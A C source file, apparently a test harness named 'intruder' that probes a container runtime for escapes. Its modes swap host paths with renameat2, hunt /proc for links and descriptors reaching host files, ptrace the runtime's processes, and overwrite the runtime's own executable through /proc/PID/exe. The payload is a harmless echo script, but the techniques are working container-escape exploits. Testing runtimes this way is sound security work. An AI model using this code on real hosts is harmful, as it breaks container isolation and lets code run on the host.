// What an attacker runs: inside a container a process that lies in wait for the runtime's own processes, outside it a
// process that swaps files under the runtime's feet. Linked statically, for it has no library in a container.
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static const char upwards[] = "../../../../../../../../../../../..";
static const char payload[] = "#!/bin/sh\necho overwritten by a container\n";

static _Noreturn void exchange(const char *first, const char *second)
{
    for (;;)
        syscall(SYS_renameat2, AT_FDCWD, first, AT_FDCWD, second, 2 /* RENAME_EXCHANGE */);
}

/// Whether `path`, which the host alone has, is to be had below `directory` or above it.
static int reaches(const char *directory, const char *path)
{
    char name[8192];
    snprintf(name, sizeof name, "%s/%s%s", directory, upwards, path);
    if (access(name, F_OK) == 0)
        return 1;
    snprintf(name, sizeof name, "%s%s", directory, path);
    return access(name, F_OK) == 0;
}

static void look_at_descriptors(const char *pid, const char *path)
{
    char folder[300], name[600], target[4096];
    snprintf(folder, sizeof folder, "/proc/%s/fd", pid);
    DIR *descriptors = opendir(folder);
    if (!descriptors)
        return;
    for (struct dirent *entry; (entry = readdir(descriptors));) {
        if (!isdigit(entry->d_name[0]))
            continue;
        snprintf(name, sizeof name, "%s/%s", folder, entry->d_name);
        ssize_t length = readlink(name, target, sizeof target - 1);
        if (length > 0 && reaches(name, path))
            printf("ESCAPED by descriptor %s of %s: %.*s\n", entry->d_name, pid, (int)length, target);
    }
    closedir(descriptors);
}

/// Of the programs that run here these are the container's; the runtime's file may lie in the same file system.
static int is_own_program(const struct stat *program)
{
    static const char *const own[] = {"/bin/intruder", "/bin/busybox"};
    struct stat mine;
    for (int i = 0; i < 2; i++)
        if (stat(own[i], &mine) == 0 && mine.st_dev == program->st_dev && mine.st_ino == program->st_ino)
            return 1;
    return 0;
}

/// Stops a process that has not yet become a program of the container, as a debugger would.
static void trace(const char *pid)
{
    char name[300];
    struct stat program;
    pid_t number = (pid_t)atoi(pid);
    if (ptrace(PTRACE_SEIZE, number, 0, 0) != 0)
        return;
    ptrace(PTRACE_INTERRUPT, number, 0, 0);
    if (waitpid(number, NULL, __WALL) == number) {
        snprintf(name, sizeof name, "/proc/%s/exe", pid);
        if (stat(name, &program) == 0 && !is_own_program(&program))
            printf("ESCAPED: traces the runtime's process %s\n", pid);
    }
    ptrace(PTRACE_DETACH, number, 0, 0);
}

/// Keeps looking whether any process of this PID namespace lends a way to `path`.
static _Noreturn void peek(const char *path, int traces)
{
    static const char *const links[] = {"root", "cwd"};
    char name[300];
    printf("in wait\n");
    for (;;) {
        DIR *processes = opendir("/proc");
        for (struct dirent *entry; processes && (entry = readdir(processes));) {
            if (!isdigit(entry->d_name[0]) || atoi(entry->d_name) == getpid())
                continue;
            for (int i = 0; i < 2; i++) {
                snprintf(name, sizeof name, "/proc/%s/%s", entry->d_name, links[i]);
                if (reaches(name, path))
                    printf("ESCAPED by %s\n", name);
            }
            look_at_descriptors(entry->d_name, path);
            if (traces && atoi(entry->d_name) != 1)
                trace(entry->d_name);
        }
        closedir(processes);
    }
}

/// Waits until nobody runs the program behind `descriptor` any more, and writes over it.
static void overwrite(int descriptor)
{
    char name[64];
    snprintf(name, sizeof name, "/proc/self/fd/%d", descriptor);
    for (int tries = 0; tries < 4000; tries++) {
        int writable = open(name, O_WRONLY | O_CLOEXEC);
        if (writable >= 0) {
            ssize_t written = write(writable, payload, sizeof payload - 1);
            printf("%s\n", written > 0 ? "wrote over a program" : strerror(errno));
            _exit(0);
        }
        usleep(1000);
    }
    _exit(0);
}

/// Keeps taking hold of any program that runs here and is not the container's, to write over it.
static _Noreturn void ambush(void)
{
    static char held[1 << 16];
    char name[300];
    printf("in wait\n");
    for (;;) {
        DIR *processes = opendir("/proc");
        for (struct dirent *entry; processes && (entry = readdir(processes));) {
            char *const seen = &held[atoi(entry->d_name) & 0xffff];
            if (!isdigit(entry->d_name[0]) || *seen)
                continue;
            snprintf(name, sizeof name, "/proc/%s/exe", entry->d_name);
            int descriptor = open(name, O_RDONLY | O_CLOEXEC);
            struct stat program;
            if (descriptor < 0)
                continue;
            if (fstat(descriptor, &program) == 0 && !is_own_program(&program)) {
                *seen = 1;
                printf("took hold of the program of %s\n", entry->d_name);
                if (fork() == 0)
                    overwrite(descriptor);
            }
            close(descriptor);
        }
        closedir(processes);
        while (waitpid(-1, NULL, WNOHANG) > 0)
            ;
    }
}

int main(int count, char **words)
{
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (count == 4 && strcmp(words[1], "exchange") == 0)
        exchange(words[2], words[3]);
    if (count == 3 && strcmp(words[1], "peek") == 0)
        peek(words[2], 0);
    if (count == 3 && strcmp(words[1], "trace") == 0)
        peek(words[2], 1);
    if (count == 2 && strcmp(words[1], "ambush") == 0)
        ambush();
    fprintf(stderr, "intruder: exchange A B | peek PATH | trace PATH | ambush\n");
    return 2;
}
